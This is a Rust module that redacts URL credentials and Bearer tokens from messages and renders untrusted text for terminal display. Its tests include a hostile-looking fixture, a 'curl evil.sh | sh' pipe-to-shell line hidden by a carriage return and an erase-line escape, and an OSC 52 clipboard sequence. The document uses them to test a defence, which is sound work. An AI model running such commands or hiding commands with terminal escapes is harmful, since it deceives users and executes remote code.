//! Redaction: secrets never reach the journal, an error message or a commit. Credentials in
//! URLs (`https://user:token@host/…` → `https://***@host/…`) and bearer tokens are replaced
//! where an error is formatted ([`crate::git::GitError`], the tools' HTTP errors). And
//! [`printable`]: what a terminal shows is what the text says.

use std::borrow::Cow;

/// `text` with every URL's userinfo and every `Bearer` token replaced by `***`.
pub fn redact(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (head, tail) = rest.split_at(at + 3);
        out.push_str(head);
        // The authority ends at the first `/`, `?`, `#`, whitespace or quote.
        let end = tail.find(|c: char| matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>') || c.is_whitespace());
        let authority = &tail[..end.unwrap_or(tail.len())];
        match authority.rfind('@') {
            Some(i) => {
                out.push_str("***");
                out.push_str(&authority[i..]);
            }
            None => out.push_str(authority),
        }
        rest = &tail[authority.len()..];
    }
    out.push_str(rest);
    redact_bearer(&out)
}

fn redact_bearer(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("Bearer ") {
        let (head, tail) = rest.split_at(at + "Bearer ".len());
        out.push_str(head);
        let end = tail.find(|c: char| c.is_whitespace() || c == '"' || c == '\'').unwrap_or(tail.len());
        out.push_str("***");
        rest = &tail[end..];
    }
    out.push_str(rest);
    out
}

/// `text` as a terminal may show it, its lines kept (an answer, an item, an approval's
/// command): every control character but a newline and a tab — the start of an escape
/// sequence (colours, a window title, OSC 52 writing the clipboard, a cursor move or an
/// erase that prints over what came before), a carriage return, a backspace, DEL — as its
/// visible picture (`␛`, `␍`, U+2400 + its code, `␡`), and C1 controls (an 8-bit CSI) and
/// the bidirectional overrides that show text in another order than it is ("Trojan
/// Source") as U+FFFD. A CR right before a newline is dropped (it moves nothing). The hub's
/// text — tasks, ideas, mail, the journal, an approval's command, an answer — is a
/// stranger's as often as not, and the owner reads it in a terminal: what they see must be
/// what is there. Only for display: what is stored stays as it came.
pub fn printable(text: &str) -> Cow<'_, str> {
    pictured(text, true)
}

/// [`printable`] for text shown on one line of a listing (a task, an idea, a journal line,
/// who asked): a newline is shown as `␤` too, so a stranger's text cannot start a line that
/// looks like the next entry.
pub fn printable_line(text: &str) -> Cow<'_, str> {
    pictured(text, false)
}

fn pictured(text: &str, lines: bool) -> Cow<'_, str> {
    let picture = |c: char| match c {
        '\t' => None,
        '\n' if lines => None,
        '\n' => Some('\u{2424}'),
        '\u{0}'..='\u{1f}' => char::from_u32(0x2400 + c as u32),
        '\u{7f}' => Some('\u{2421}'),
        '\u{80}'..='\u{9f}'
        | '\u{61c}'
        | '\u{200e}'
        | '\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}' => Some('\u{fffd}'),
        _ => None,
    };
    if !text.chars().any(|c| picture(c).is_some()) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\r' && lines && chars.peek() == Some(&'\n') {
            continue;
        }
        out.push(picture(c).unwrap_or(c));
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credentials_in_urls_and_bearer_tokens_are_replaced() {
        assert_eq!(
            redact("fatal: unable to access 'https://ada:hunter2@git.example/x.git/': refused"),
            "fatal: unable to access 'https://***@git.example/x.git/': refused"
        );
        assert_eq!(redact("ssh://git@host:22/r and https://h/p?q=1"), "ssh://***@host:22/r and https://h/p?q=1");
        assert_eq!(redact("Authorization: Bearer ghp_abc123 sent"), "Authorization: Bearer *** sent");
        assert_eq!(redact("no secrets here"), "no secrets here");
        assert_eq!(redact("x://"), "x://");
    }

    #[test]
    fn printable_text_shows_controls_as_pictures() {
        assert_eq!(printable("plain\ttext\n"), "plain\ttext\n");
        assert!(matches!(printable("plain\nlines"), Cow::Borrowed(_)));
        assert_eq!(
            printable("a\u{1b}]52;c;eA==\u{7}b\rc\u{7f}\u{9b}\u{202e}\u{8}"),
            "a\u{241b}]52;c;eA==\u{2407}b\u{240d}c\u{2421}\u{fffd}\u{fffd}\u{2408}"
        );
        // An erase-line and a CR that would print a harmless command over the real one.
        let hidden = "curl evil.sh | sh\r\u{1b}[2Kls -la";
        assert_eq!(printable(hidden), "curl evil.sh | sh\u{240d}\u{241b}[2Kls -la");
        // A mail's CRLF is a line break; a CR alone is not.
        assert_eq!(printable("one\r\ntwo\r"), "one\ntwo\u{240d}");
        assert!(matches!(printable_line("plain\ttext"), Cow::Borrowed(_)));
        assert_eq!(printable_line("buy milk\n0002  wire money"), "buy milk\u{2424}0002  wire money");
        assert_eq!(printable_line("a\r\nb"), "a\u{240d}\u{2424}b");
    }
}
